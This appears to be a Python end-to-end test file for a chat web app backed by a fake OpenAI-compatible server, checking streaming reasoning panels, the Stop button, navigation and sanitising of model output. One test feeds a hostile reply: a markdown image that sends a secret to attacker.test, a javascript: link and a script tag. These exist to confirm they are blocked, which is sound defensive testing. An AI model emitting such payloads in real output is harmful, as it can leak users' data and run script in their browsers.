"""The Chat page in a real browser against the loopback OpenAI-compatible server."""

from __future__ import annotations

import time

import pytest

from tests.e2e.conftest import App, send, wait_idle
from tests.support.openai_fake import FakeOpenAIServer, Reply

pytestmark = pytest.mark.e2e

REASONING = "First compute 42 cubed which is 74088 then take the square root carefully step by step"
ANSWER = "The square root of 42^3 is about **272.21**."


@pytest.fixture(scope="module")
def fake():
    with FakeOpenAIServer() as server:
        yield server


@pytest.fixture(scope="module")
def app(fake, tmp_path_factory):
    app = App(
        {"OPENAI_BASE_URL": fake.url, "OPENAI_API_KEY": "sk-test-SECRETKEY1234567890"}, tmp_path_factory.mktemp("app")
    )
    yield app
    app.stop()


def test_reasoning_panel_streams_then_collapses_and_metrics_show(app, fake, page):
    fake.queue(Reply(reasoning=REASONING, answer=ANSWER, dialect="bedrock", delay_s=0.12))
    page.goto(app.url)
    wait_idle(page)
    send(page, "Tell me the square root of 42 ^ 3")
    panel = page.get_by_test_id("stChatMessage").last.get_by_test_id("stExpander")
    # Live: the panel is open and labelled "Thinking…" while reasoning streams.
    panel.get_by_text("First compute", exact=False).first.wait_for(state="visible")
    assert "Thinking" in panel.locator("summary").inner_text()
    assert "272.21" not in page.get_by_test_id("stChatMessage").last.inner_text()
    wait_idle(page)
    summary = panel.locator("summary")
    assert "Thought for" in summary.inner_text()
    # Collapsed: the reasoning text is hidden until the user opens the panel.
    reasoning_text = panel.get_by_text("First compute", exact=False).first
    assert not reasoning_text.is_visible()
    summary.click()
    reasoning_text.wait_for(state="visible")
    answer = page.get_by_test_id("stChatMessage").last
    assert "272.21" in answer.inner_text()
    assert "<reasoning>" not in page.content()
    metrics = answer.get_by_text("first answer token", exact=False)
    assert metrics.is_visible()
    assert "tok/s" in metrics.inner_text()
    assert "sk-test-SECRETKEY1234567890" not in page.content()


def test_stop_keeps_partial_answer_and_marks_it(app, fake, page):
    words = " ".join(f"word{i}" for i in range(400))
    fake.queue(Reply(reasoning="", answer=words, dialect="plain", delay_s=0.05), Reply(answer="Next answer."))
    page.goto(app.url)
    wait_idle(page)
    send(page, "Count slowly")
    page.get_by_text("word5", exact=False).first.wait_for()
    page.get_by_test_id("stChatInputStopButton").click()
    wait_idle(page)
    time.sleep(0.5)
    shown = page.get_by_test_id("stChatMessage").last.inner_text()
    assert "word5" in shown and "word399" not in shown
    assert fake.streams_closed(10), "the HTTP stream was not closed on Stop"
    send(page, "next")
    page.get_by_text("Next answer.").wait_for()
    wait_idle(page)
    assert page.get_by_text("Stopped. The partial answer above is kept.").is_visible()


def test_model_output_cannot_load_images_or_run_links(app, fake, page):
    evil = "See ![x](https://attacker.test/p?d=SECRET) and [click](javascript:alert(1)) <script>alert(1)</script>"
    fake.queue(Reply(reasoning="", answer=evil, dialect="plain"))
    requested: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    page.goto(app.url)
    wait_idle(page)
    send(page, "hi")
    page.get_by_text("image blocked: attacker.test").wait_for()
    wait_idle(page)
    assert not [u for u in requested if "attacker.test" in u]
    assert page.locator("a[href^='javascript:']").count() == 0
    assert page.locator("script:has-text('alert(1)')").count() == 0
    assert page.get_by_text("<script>alert(1)</script>").first.is_visible()


@pytest.mark.parametrize("path", ["/", "/Compare", "/Connections"])
def test_every_page_opens_by_url_on_a_fresh_server(fake, page, tmp_path, path):
    fresh = App({"OPENAI_BASE_URL": fake.url}, tmp_path)
    try:
        page.goto(fresh.url + path)
        page.get_by_role("heading", name=path.strip("/") or "Chat").wait_for()
        wait_idle(page)
        sidebar = page.get_by_test_id("stSidebar")
        assert sidebar.is_visible()
        for label in ("Chat", "Compare", "Connections"):  # the shared frame drew the navigation
            sidebar.get_by_text(label, exact=True).wait_for(state="visible")  # widgets load lazily
        assert page.get_by_role("heading", name=path.strip("/") or "Chat").is_visible()
        assert page.locator("[data-testid=stException]").count() == 0
    finally:
        fresh.stop()
